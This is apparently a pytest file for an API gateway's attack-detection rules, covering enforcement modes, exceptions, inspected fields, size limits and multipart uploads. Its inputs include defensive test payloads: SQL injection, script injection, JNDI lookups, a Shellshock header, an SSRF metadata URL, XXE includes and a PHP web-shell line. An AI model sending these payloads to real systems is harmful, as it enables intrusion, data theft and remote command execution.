"""The guard that runs the attack rules: modes, exceptions, what is looked at, and how much."""

import json
from typing import Any

import pytest
from policies import exchange_of, service_of, snapshot_of

from yett.engine.decide import decide, resume
from yett.engine.recorded import RecordedView, Replayed, replay
from yett.engine.snapshot import Snapshot
from yett.model.decision import Evaluation, Pause, Phase, Wait
from yett.model.exchange import Exchange, Response
from yett.model.mistake import PolicyErrors
from yett.model.policy import Bounds
from yett.rules.inspection.exceptions import Exceptions, Exemption, narrowest
from yett.rules.inspection.inspecting import is_readable
from yett.rules.inspection.memory import REMEMBERED
from yett.rules.inspection.pack import Pack
from yett.rules.inspection.packs import packs
from yett.rules.inspection.requests import LONGEST_REMEMBERED
from yett.rules.registry import attacks

NOW = 1_750_000_000.0
SQL = "1%27%20OR%20%271%27=%271"
ENFORCED = "attacks: {mode: enforce}"


def outcome(snapshot: Snapshot, exchange: Exchange) -> Replayed:
    return replay(snapshot, exchange, NOW)


def told(lines: str, start: str, *fields: str, **more: Any) -> tuple[str, list[str], str]:
    """(verdict, rules that would have denied, the denial's rule)."""
    found = outcome(service_of(lines), exchange_of(start, *fields, **more))
    return found.verdict, [denial.rule for denial in found.would], found.denial.rule if found.denial else ""


def posted(value: Any, lines: str = ENFORCED, kind: str = "application/json") -> tuple[str, list[str], str]:
    body = value if isinstance(value, bytes) else json.dumps(value).encode()
    return told(lines, "POST /things", f"Content-Type: {kind}", body=body)


# --- modes ------------------------------------------------------------------------------------------------------------------


def test_by_default_it_only_records() -> None:
    assert told("mode: enforce", f"GET /a?id={SQL}") == ("allow", ["sql-injection"], "")


def test_it_can_be_turned_off() -> None:
    snapshot = service_of("attacks: false")
    plan = snapshot.route("GET", "api.example", "/a")[0]
    assert "attacks" not in plan.rules
    assert not plan.may_read_response
    assert told("attacks: false", f"GET /a?id={SQL}") == ("allow", [], "")


def test_off_for_one_operation() -> None:
    lines = f"{ENFORCED}\noperations: {{GET /a: {{attacks: false}}}}"
    assert told(lines, f"GET /a?id={SQL}")[0] == "allow"
    assert told(lines, f"GET /b?id={SQL}")[0] == "deny"


def test_monitor_wins() -> None:
    assert told(f"mode: monitor\n{ENFORCED}", f"GET /a?id={SQL}") == ("allow", ["sql-injection"], "")


@pytest.mark.parametrize("wish", ["off", "false"])
def test_a_rule_can_be_turned_off(wish: str) -> None:
    assert told(f"attacks: {{mode: enforce, rules: {{sql-injection: {wish}}}}}", "GET /a?id=1%20or%201=1--")[0] == "allow"


def test_a_rule_can_be_softened() -> None:
    lines = "attacks: {mode: enforce, rules: {sql-injection: monitor}}"
    assert told(lines, "GET /a?id=1%20or%201=1--") == ("allow", ["sql-injection"], "")


def test_what_is_denied_says_rule_place_and_sample() -> None:
    found = outcome(service_of(ENFORCED), exchange_of(f"GET /a?id={SQL}"))
    assert found.denial is not None
    assert (found.denial.rule, found.denial.status, found.denial.place) == ("sql-injection", 403, "query id")
    assert "1' OR '1'='1" in found.denial.sample
    assert "sql" not in found.denial.title.lower()


def test_all_rules_that_object_are_recorded() -> None:
    verdict, would, rule = posted({"a": "<script>alert(1)</script>", "b": "http://169.254.169.254/latest/"})
    assert verdict == "deny"
    assert {rule, *would} == {"script-injection", "ssrf-target"}


# --- mistakes of the owner --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("lines", "words"),
    [
        ("attacks: {rules: {sql: off}}", "there is no attack rule 'sql'"),
        ("attacks: {except: [{rule: sql, place: body}]}", "there is no attack rule 'sql'"),
        ("attacks: {except: [{rule: xxe}]}", "a place, or both"),
        ("attacks: {mode: of}", "not one of the choices"),
        ("attacks: {inspect: {size: 1}}", ""),
        ("attacks: {rules: {xxe: maybe}}", ""),
    ],
)
def test_mistakes_are_told(lines: str, words: str) -> None:
    assert words in said_of(lines)


def said_of(lines: str) -> str:
    """What is wrong with a policy, found when it is read or when its plans are made."""
    try:
        errors = service_of(lines).build_all().errors
    except PolicyErrors as found:
        return str(found)
    assert errors
    return str(PolicyErrors(errors))


# --- exceptions -------------------------------------------------------------------------------------------------------------

FOUND = {"items": [{"note": "<script>alert(1)</script>"}]}


@pytest.mark.parametrize(
    ("exception", "passes"),
    [
        ("{rule: script-injection, place: body /items/0/note}", True),
        ("{rule: script-injection, place: 'body /items/*/note'}", True),
        ("{rule: script-injection, place: 'body /**'}", True),
        ("{rule: script-injection, place: body}", True),
        ("{rule: script-injection, place: body (itself)}", False),
        ("{rule: '*', place: body}", True),
        ("{rule: script-injection, operation: POST /things}", True),
        ("{rule: script-injection, operation: POST /things, place: 'body /items/*/note'}", True),
        ("{rule: script-injection, operation: GET /things, place: body}", False),
        ("{rule: script-injection, place: body /items/1/note}", False),
        ("{rule: script-injection, place: 'body /*/note'}", False),
        ("{rule: script-injection, place: query note}", False),
        ("{rule: sql-injection, place: body}", False),
    ],
)
def test_exceptions(exception: str, passes: bool) -> None:
    lines = f"attacks: {{mode: enforce, except: [{exception}]}}\noperations: {{POST /things: , GET /things: }}"
    assert (posted(FOUND, lines)[0] == "allow") is passes


def test_an_exception_for_a_value_is_one_for_the_document_in_it() -> None:
    lines = "attacks: {mode: enforce, except: [{rule: script-injection, place: body /a}]}"
    assert posted({"a": json.dumps({"b": SCRIPT})}, lines)[0] == "allow"
    assert posted({"b": json.dumps({"a": SCRIPT})}, lines)[0] == "deny"


def test_an_exception_for_a_place_leaves_others() -> None:
    lines = "attacks: {mode: enforce, except: [{rule: script-injection, place: body /a}]}"
    assert posted({"a": "<script>alert(1)</script>"}, lines)[0] == "allow"
    assert posted({"a": "<script>alert(1)</script>", "b": "<script>alert(1)</script>"}, lines)[0] == "deny"


def test_an_exception_for_a_name_leaves_the_same_name_elsewhere() -> None:
    """Names stand once among the values of a document, at their first place."""
    lines = "attacks: {mode: enforce, except: [{rule: nosql-operators, place: 'body /filter/*/$ne (name)'}]}"
    honest = [{"$ne": 1}, {"$ne": 2}]
    assert posted({"filter": honest}, lines)[0] == "allow"
    assert posted({"filter": honest, "password": {"$ne": 1}}, lines) == ("deny", [], "nosql-operators")
    many = {str(number): {"x": number} for number in range(1_000)}
    assert posted({"filter": honest, "many": many, "z": [{"$ne": 1}]}, lines)[0] == "deny"


CONFUSED = {"user": "anna", "password": {"password": 1}}
POLLUTED = {"constructor": {"prototype": {"isAdmin": True}}}
GREEDY = "{ " + " ".join(f"a{number}: login(p: {number})" for number in range(40)) + " }"


@pytest.mark.parametrize(
    ("rule", "place", "excused", "attack"),
    [
        ("json-type-confusion", "body /schema/password (name)", {"schema": CONFUSED}, {"login": CONFUSED}),
        ("json-type-confusion", "body /rows/*/password (name)", {"rows": [CONFUSED, CONFUSED]}, {"login": [CONFUSED]}),
        ("prototype-pollution", "body /code/constructor (name)", {"code": POLLUTED}, {"x": [POLLUTED]}),
        ("graphql-abuse", "body /saved", {"saved": GREEDY}, {"query": GREEDY}),
    ],
)
def test_an_exception_for_a_structure_leaves_the_same_structure_elsewhere(
    rule: str, place: str, excused: dict[str, Any], attack: dict[str, Any]
) -> None:
    lines = f"attacks: {{mode: enforce, except: [{{rule: {rule}, place: '{place}'}}]}}"
    assert posted(excused, lines)[0] == "allow"
    assert posted(attack, lines) == ("deny", [], rule)
    for both in (excused | attack, attack | excused):
        assert posted(both, lines) == ("deny", [], rule)


def test_a_structure_is_said_to_be_where_it_is() -> None:
    """Not where its name stands for the first time."""
    body = json.dumps(
        {"password": "x", "login": [{"email": "a", "password": True}], "constructor": "y", "a": POLLUTED}
    ).encode()
    found = outcome(service_of(ENFORCED), exchange_of("POST /things", "Content-Type: application/json", body=body))
    places = {denial.rule: denial.place for denial in (*found.would, found.denial) if denial}
    assert places == {
        "json-type-confusion": "body /login/0/password (name)",
        "prototype-pollution": "body /a/constructor (name)",
    }


def test_no_number_of_objects_hides_a_structure() -> None:
    many = {f"d{number}": {"x": {}} for number in range(1_000)}
    assert posted({"a": CONFUSED} | many) == ("deny", [], "json-type-confusion")
    assert posted(many | {"a": CONFUSED}) == ("deny", [], "json-type-confusion")


def test_names_of_fields_have_no_case() -> None:
    assert Exceptions([Exemption(rule="*", place="header user-agent")]).excuse("scanner", "header User-Agent")
    assert not Exceptions([Exemption(rule="*", place="query A")]).excuse("xxe", "query a")


@pytest.mark.parametrize(
    ("rule", "operation", "place"),
    [
        ("sql-injection", "POST /reports", "body /filters/0/query"),
        ("xxe", "addOrder", 'query a"b\\c'),
        ("scanner", "", "header User-Agent"),
        ("script-injection", "POST /x", "body /a/12/b (name)"),
        ("path-traversal", "GET /ü", "path"),
        ("xxe", "x", "query \u2028\x01\U0001f600"),
        ("xxe", "x", "body"),
        ("xxe", "x", "query"),
        ("xxe", "x", "body /*/**/a\\*"),
    ],
)
def test_the_narrowest_exception_is_yaml_that_counts(rule: str, operation: str, place: str) -> None:
    from yett.formats.yaml import read

    tree = read(narrowest(rule, operation, place).encode()).tree
    exemption = Exemption(**tree)
    assert exemption.operation == (operation or None)
    assert Exceptions([exemption]).excuse(rule, place)
    assert not Exceptions([exemption]).excuse("other", place)
    for other in (f"{place}x", f"{place} x", f"{place}/x", place.replace("*", "x") + "y"):
        assert not Exceptions([exemption]).excuse(rule, other), "no wider than it must be"


# --- what is looked at ------------------------------------------------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"


@pytest.mark.parametrize(
    ("kind", "body", "place"),
    [
        ("application/json", json.dumps({"a": {"b": [SCRIPT]}}), "body /a/b/0"),
        ("application/json", json.dumps({"a": f"line\nbreak {SCRIPT}"}), "body /a"),
        ("application/json", json.dumps({"a": f"back\\slash {SCRIPT}"}), "body /a"),
        ("application/json", json.dumps({"a": json.dumps({"b": SCRIPT})}), "body /a"),
        ("application/json", json.dumps({SCRIPT: 1}), f"body /{SCRIPT.replace('/', '~1')} (name)"),
        ("application/json", '{"a": "\\u003cscript\\u003ealert(1)"}', "body /a"),
        ("application/json", f'{{"a": "{SCRIPT}", ', "body"),
        ("application/x-www-form-urlencoded", "a=%3Cscript%3Ealert(1)%3C/script%3E", "form a"),
        ("application/x-www-form-urlencoded", f"a={SCRIPT}", "form a"),
        ("text/plain", f"hello {SCRIPT}", "body"),
        ("application/xml", f"<a>{SCRIPT.replace('<', '&lt;')}</a>", "body /a"),
        ("application/octet-stream", f"hello {SCRIPT}", "body"),
    ],
)
def test_bodies_of_all_kinds(kind: str, body: str, place: str) -> None:
    found = outcome(service_of(ENFORCED), exchange_of("POST /things", f"Content-Type: {kind}", body=body.encode()))
    assert found.denial is not None
    assert (found.denial.rule, found.denial.place) == ("script-injection", place)


@pytest.mark.parametrize(
    ("fields", "place"),
    [
        (["X-Note: ${jndi:ldap://192.0.2.1/a}"], "header X-Note"),
        (["Cookie: a=b; sid=${jndi:ldap://192.0.2.1/a}"], "cookie sid"),
        (["User-Agent: $%7bjndi:ldap://192.0.2.1/a}"], "header User-Agent"),
    ],
)
def test_fields_and_cookies(fields: list[str], place: str) -> None:
    found = outcome(service_of(ENFORCED), exchange_of("GET /a", *fields))
    assert found.denial is not None and found.denial.place == place


def test_a_harmless_line_is_remembered_and_a_harmful_one_never() -> None:
    snapshot = service_of(ENFORCED)
    for _ in range(3):
        assert outcome(snapshot, exchange_of("GET /a", "X-A: fine; sort of", "X-B: () { x; }; id")).denial is not None
        assert outcome(snapshot, exchange_of("GET /a", "X-A: fine; sort of")).denial is None
        assert (
            outcome(snapshot, exchange_of("GET /a", "X-A: fine; sort of", "Cookie: a='; drop table users--")).denial is not None
        )


def test_what_is_remembered_is_bounded() -> None:
    snapshot = service_of(ENFORCED)
    for number in range(REMEMBERED + 50):
        outcome(snapshot, exchange_of("GET /a", f"X-Id: {number}", f"X-Long: {'x' * (LONGEST_REMEMBERED + 1)}"))
    assert outcome(snapshot, exchange_of("GET /a", "X-Id: ${jndi:ldap://192.0.2.1/a}")).denial is not None


def test_comments_do_not_hide_what_stands_in_other_values() -> None:
    assert posted({"a": "/*", "b": "%3Cscript%3Ealert(1)%3C/script%3E", "c": "*/"})[0] == "deny"
    assert posted({"a": "1/*!50000union*//*\n*/select/**/null,2"})[0] == "deny"


def test_values_without_anything_have_nothing() -> None:
    assert posted({})[0] == "allow"
    assert posted(b"")[0] == "allow"
    assert posted({"a": "", "b": None, "c": 1.5, "d": [True]})[0] == "allow"


def test_secrets_are_not_shown() -> None:
    found = outcome(service_of(ENFORCED), exchange_of("GET /a?password=x%27%20or%201=1--", "X-A: b"))
    assert found.denial is not None and "or 1=1" not in found.denial.sample
    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    response = Response(status=200, fields=((b"Content-Type", b"application/json"),), body=f'{{"t": "{token}"}}'.encode())
    found = outcome(service_of(ENFORCED), exchange_of("GET /a", response=response))
    assert found.denial is not None
    assert (found.denial.rule, found.denial.status) == ("secret-in-response", 502)
    assert found.denial.sample.startswith("ghp_") and token not in found.denial.sample


# --- how much ---------------------------------------------------------------------------------------------------------------


def test_what_is_beyond_the_limit_is_recorded_or_denied() -> None:
    body = {"a": "x" * 3_000, "z": SCRIPT}
    lines = "attacks: {mode: enforce, inspect: {size: 1024}}"
    found = outcome(
        service_of(lines), exchange_of("POST /things", "Content-Type: application/json", body=json.dumps(body).encode())
    )
    assert found.verdict == "allow"
    assert [rule for rule, _ in found.not_evaluated] == ["attacks"]
    lines = "attacks: {mode: enforce, inspect: {size: 1024, beyond: deny}}"
    found = outcome(
        service_of(lines), exchange_of("POST /things", "Content-Type: application/json", body=json.dumps(body).encode())
    )
    assert found.denial is not None and found.denial.status == 413


def test_too_many_values_are_recorded() -> None:
    body = json.dumps([f"<b{number}" for number in range(40)] + [SCRIPT]).encode()
    lines = "attacks: {mode: enforce, inspect: {values: 10}}"
    found = outcome(service_of(lines), exchange_of("POST /things", "Content-Type: application/json", body=body))
    assert found.verdict == "allow"
    assert "10 values" in dict(found.not_evaluated)["attacks"]


def test_large_bodies_pause_and_are_read_to_their_end() -> None:
    snapshot = service_of(ENFORCED)
    texts = [f"some text; number {number} & 100% 'quoted' or 1 of them" for number in range(900)]
    body = json.dumps([text * 20 for text in texts] + [SCRIPT]).encode()
    assert 700_000 < len(body) < 1 << 20
    view = RecordedView(exchange_of("POST /things", "Content-Type: application/json", body=body), Bounds())
    view.decode_body()
    plan, parameters = snapshot.route("POST", "api.example", "/things")  # type: ignore[misc]
    evaluation = Evaluation(plan.operation, NOW, NOW, parameters)
    outcome, seen = decide(plan.checks[Phase.BODY], view, evaluation), set()
    while isinstance(outcome, Wait):
        assert isinstance(outcome.need, Pause) and outcome.need not in seen
        seen.add(outcome.need)
        evaluation.supply(outcome.need, True)
        outcome = resume(view, evaluation)
    assert len(seen) > 5
    assert outcome is not None
    assert evaluation.denial is not None and evaluation.denial.rule == "script-injection"
    assert evaluation.denial.place == "body /900"


# --- responses --------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "status", "readable"),
    [
        ("application/json", 200, True),
        ("application/problem+json", 500, True),
        ("text/html; charset=utf-8", 200, True),
        ("text/event-stream", 200, False),
        ("application/x-ndjson", 200, False),
        ("image/png", 200, False),
        ("", 200, False),
        ("", 500, True),
    ],
)
def test_which_responses_are_held_back(kind: str, status: int, readable: bool) -> None:
    fields = ((b"Content-Type", kind.encode()),) if kind else ()
    view = RecordedView(exchange_of("GET /a", response=Response(status=status, fields=fields)), Bounds())
    assert is_readable(view) is readable


def test_responses_can_be_left_alone() -> None:
    plan = service_of("attacks: {responses: false}").route("GET", "api.example", "/a")[0]  # type: ignore[index]
    assert not plan.may_read_response


# --- contracts --------------------------------------------------------------------------------------------------------------

CONTRACT = """
openapi: 3.1.0
info: {title: T, version: "1"}
paths:
  /things:
    post:
      requestBody:
        content:
          application/json:
            schema:
              type: object
              properties:
                kind: {enum: ["<script>", "b"]}
                text: {type: string}
      responses: {"200": {description: Done}}
    get:
      parameters: [{name: X-Kind, in: header, schema: {enum: ["<script>alert(1)</script>"]}}]
      responses: {"200": {description: Done}}
    delete:
      responses: {"200": {description: Done}}
"""


def test_what_the_contract_proves_is_not_looked_at() -> None:
    policy = (
        "services: {s: {upstream: {targets: ['http://127.0.0.1:1']}, attacks: {mode: enforce}, contract: {file: openapi.yaml}}}"
    )
    snapshot = snapshot_of(policy, CONTRACT)

    def judged(body: dict[str, str]) -> str:
        exchange = exchange_of("POST /things", "Content-Type: application/json", body=json.dumps(body).encode())
        return outcome(snapshot, exchange).verdict

    assert judged({"kind": "<script>"}) == "allow"
    assert judged({"kind": "b", "text": SCRIPT}) == "deny"
    assert judged({"kind": "b", SCRIPT: "x"}) == "deny"


def test_what_the_contract_proves_for_one_operation_is_looked_at_for_others() -> None:
    policy = (
        "services: {s: {upstream: {targets: ['http://127.0.0.1:1']}, attacks: {mode: enforce}, contract: {file: openapi.yaml}}}"
    )
    snapshot = snapshot_of(policy, CONTRACT)
    told = [
        outcome(snapshot, exchange_of(f"{method} /things", f"X-Kind: {SCRIPT}")).verdict for method in ("GET", "DELETE", "GET")
    ]
    assert told == ["allow", "deny", "allow"]


def test_operations_share_what_is_the_same() -> None:
    snapshot = service_of(
        "attacks: {mode: enforce}\noperations: {'GET /a': , 'GET /b': , 'GET /c': {attacks: {mode: enforce}}}"
    )
    plans = [snapshot.route("GET", "api.example", path)[0] for path in ("/a", "/b", "/c")]  # type: ignore[index]
    assert plans[0].checks[Phase.BODY] == plans[1].checks[Phase.BODY]
    assert plans[0].checks[Phase.BODY] != plans[2].checks[Phase.BODY]


def test_the_packs_are_made_once() -> None:
    assert packs() is packs()
    assert all(isinstance(pack, Pack) for pack in packs())
    assert {rule.id for pack in packs() for rule in pack.rules} == set(attacks())


@pytest.mark.parametrize(
    ("body", "passes"),
    [
        ("<a><b>1' OR '1'='1</b></a>", True),
        ("<a><b>1' OR '1'='1</b><c>1' OR '1'='1</c></a>", False),
        ("<a><b>1' OR '1'='1</b><!-- 1' OR '1'='1 --></a>", False),
    ],
)
def test_an_exception_for_an_element_counts_although_markup_is_looked_at_as_a_whole(body: str, passes: bool) -> None:
    lines = "attacks: {mode: enforce, except: [{rule: sql-injection, place: body /a/b}]}"
    assert (posted(body.encode(), lines, "application/xml")[0] == "allow") is passes


INCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="x"/>'


@pytest.mark.parametrize("place", ["body /a/b", "body /a/b/@c", "body comment"])
@pytest.mark.parametrize(
    "beside", ["", "<!-- <![CDATA[ -->%s<!-- ]]> -->", "<?x <!-- ?>%s<?x --> ?>", "<d e='>'>x>y</d>%s", "<d e='-->'/>%s"]
)
def test_an_exception_for_a_text_of_xml_leaves_the_same_in_its_markup(place: str, beside: str) -> None:
    """Tags count only together, so what is in them has no place but the whole; what was excused in a tag is not told from others."""
    lines = f"attacks: {{mode: enforce, rules: {{script-injection: monitor}}, except: [{{rule: xxe, place: {place}}}]}}"
    escaped = INCLUDE.replace("<", "&lt;")
    inner = {
        "body /a/b": f"<b>{escaped}<![CDATA[{INCLUDE}]]></b>",
        "body /a/b/@c": f"<b c='{escaped}'/>",
        "body comment": f"<!--{INCLUDE}-->",
    }[place]
    passes = not beside or place != "body /a/b"
    beside = beside.replace("%s", INCLUDE)
    assert (posted(f"<a>{inner}{beside}</a>".encode(), lines, "application/xml")[0] == "allow") is passes


# --- uploads of which only the beginning is looked at -------------------------------------------------------------------------

_UPLOAD = (
    b'--x\r\nContent-Disposition: form-data; name="note"\r\n\r\n%b\r\n--x\r\n'
    b'Content-Disposition: form-data; name="f"; filename="%b"\r\nContent-Type: application/octet-stream\r\n\r\n%b'
)
_KIND = "multipart/form-data; boundary=x"
_CUT = "attacks: {mode: enforce, inspect: {size: 1024}}"


@pytest.mark.parametrize(
    ("note", "filename", "content", "rule"),
    [
        (b"fine", b"a.bin", b"\0\1\r\n" * 1_000, ""),
        (b"fine", b"a.bin", b"text --x\r\n-x" * 1_000, ""),
        (b"<script>alert(1)</script>", b"a.bin", b"\0" * 4_000, "script-injection"),
        (b"fine", b"a.php", b"\0" * 4_000, "malicious-upload"),
        (b"fine", b"a.txt", b"<?php system($_GET['a']); ?>" + b" " * 4_000, "malicious-upload"),
        (b"fine", b"a.txt\nx: <script>alert(1)</script>", b" " * 4_000, "script-injection"),
    ],
)
def test_uploads_beyond_the_limit_are_read_in_parts(note: bytes, filename: bytes, content: bytes, rule: str) -> None:
    body = _UPLOAD % (note, filename, content) + b"\r\n--x--\r\n"
    found = outcome(service_of(_CUT), exchange_of("POST /things", f"Content-Type: {_KIND}", body=body))
    assert (found.denial.rule if found.denial else "") in (
        (rule, "header-injection") if rule and b"\n" in filename else (rule,)
    )
    assert [name for name, _ in found.not_evaluated] == ["attacks"] or rule


@pytest.mark.parametrize("cut", range(960, 1_200, 7))
def test_wherever_an_upload_is_cut(cut: int) -> None:
    body = (
        _UPLOAD % (b"n" * (cut - 250), b"a.bin", b"b" * 100)
        + b"\r\n"
        + _UPLOAD % (b"m", b"b.bin", b"c" * 900)
        + b"\r\n--x--\r\n"
    )
    assert posted(body, _CUT, _KIND)[0] == "allow"


@pytest.mark.parametrize(
    ("excused", "start", "body"),
    [
        ("query q", "GET /a?q%20=1%20union%20select%20password%20from%20users--", b""),
        ("query q", "GET /a?+q=1%20union%20select%20password%20from%20users--", b""),
        ("body /q", "POST /a", b'{"q ": "1 union select password from users--"}'),
    ],
)
def test_names_with_blanks_are_other_names(excused: str, start: str, body: bytes) -> None:
    lines = f"attacks: {{mode: enforce, except: [{{rule: sql-injection, place: {excused}}}]}}"
    found = outcome(service_of(lines), exchange_of(start, "Content-Type: application/json", body=body))
    assert found.denial is not None
    entry = narrowest("sql-injection", "", found.denial.place)
    again = service_of(f"attacks: {{mode: enforce, except: [{entry}]}}")
    assert outcome(again, exchange_of(start, "Content-Type: application/json", body=body)).verdict == "allow"
